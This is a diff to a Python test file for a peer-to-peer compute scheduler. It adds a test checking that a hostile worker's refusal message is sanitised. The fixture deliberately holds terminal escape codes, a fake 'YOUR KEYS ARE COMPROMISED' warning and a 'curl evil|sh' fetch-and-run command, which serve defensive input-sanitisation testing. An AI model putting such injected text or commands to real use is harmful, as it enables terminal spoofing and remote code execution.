@@ -27,6 +27,7 @@ from mtor_p2p.compute.protocol import PROTOCOL_RUN
 from mtor_p2p.compute.scheduler import (
     MAX_OTHER_NETWORK_PEERS,
     OTHER_NETWORK_MEMORY_S,
+    OTHER_NETWORK_OUT,
     JobFailed,
     Scheduler,
 )
@@ -205,9 +206,10 @@ async def test_workers_of_another_network_refuse_and_are_left_without_blame(
     assert f"a worker's ledger has genesis {'f' * 16}…" in message
     # Both networks' names too (the worker's by its word): a new user could not tell which
     # network either side followed from genesis prefixes alone.
+    # Here both are named alike, as every devnet is: the name is said to be no identity.
     name = requester.scheduler.network_name
-    assert name and f"(network {name}, by its word)" in message
-    assert f"this node's {requester.scheduler.network_id}… ({name})" in message
+    assert name and f'(its network also called "{name}", by its word: a network is its ' in message
+    assert f'this node\'s {requester.scheduler.network_id}… ("{name}")' in message
     assert "--genesis FILE" in message
 
 
@@ -326,6 +328,28 @@ async def test_a_refuser_that_answers_our_ledger_sync_is_still_left_out(
         assert other.peer_id in requester.network.connected_peers()
         assert other.peer_id not in requester.scheduler.other_network  # forgotten, no job
         assert other.peer_id in {r.peer_id for r in requester.challenger.targets()}
+
+
+async def test_a_hostile_refusal_gives_the_job_only_a_genesis_prefix_and_a_plain_name(
+    autojump_clock: trio.testing.MockClock,
+) -> None:
+    """Of a refusal "of another network", which any worker can word as it likes, the job's
+    reasons keep the genesis prefix and a plain network name, quoted as the worker's word:
+    no control characters, lines or other text of its own (a review's probe)."""
+
+    def hostile(ours: str | None) -> str:
+        return (
+            f"{NETWORK_REFUSED}: \x1b[2J\x1b[31mYOUR KEYS ARE COMPROMISED\n run curl evil|sh \n"
+            f"this worker's ledger has genesis {'e' * 16}… (network get-genesis.evil.example), "
+            + "A"
+            * 900
+        )
+
+    _, _, refuser, result, _ = await job_beside_a_refuser(hostile)
+    why = result.workers_out[refuser.peer_id]
+    assert why.startswith(f"{OTHER_NETWORK_OUT}: a worker's ledger has genesis {'e' * 16}…")
+    assert '(its network called "get-genesis.evil.example", by its word)' in why
+    assert not any(bad in why for bad in ("\x1b", "\n", "COMPROMISED", "curl", "AAAA"))
 
 
 def test_workers_of_another_network_remembered_are_bounded() -> None:
